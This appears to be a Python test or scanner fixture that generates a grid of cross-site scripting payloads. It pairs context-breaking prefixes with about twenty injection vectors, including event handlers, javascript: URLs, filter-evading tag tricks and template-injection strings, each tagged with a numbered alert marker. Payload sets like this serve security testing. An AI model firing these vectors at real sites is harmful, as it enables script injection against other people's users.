"""Attempts to run a script in a page: what breaks out of a context, with what would run there."""

from __future__ import annotations

CONTEXTS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "`>")
"""What ends the text, attribute, element or comment that somebody's words stand in."""
VECTORS = (
    "<script>RUN</script>",
    "<ScRiPt src=data:text/javascript,RUN></sCrIpT>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script type=module>RUN</script>",
    "<img src=x onerror=RUN>",
    "<img/src='x'/onerror=RUN//",
    "<svg onload=RUN>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<body onpageshow=RUN>",
    "<details open ontoggle=RUN>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<a href=javascript:RUN id=lure>lure</a>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href='javascript:RUN//'>",
    "<style>@import 'data:text/css,*{}';</style><p style=animation-name:x onanimationstart=RUN>",
    "\" autofocus onfocus=RUN x=\"' autofocus onfocus=RUN x='",
    "{{constructor.constructor('RUN')()}}${RUN}<%=RUN%>&lt;script&gt;RUN&lt;/script&gt;\\u003cscript\\u003eRUN",
)
PAYLOADS = tuple(
    (context + vector).replace("RUN", f"alert(window.ran={number})")
    for number, (context, vector) in enumerate((c, v) for c in CONTEXTS for v in VECTORS)
)
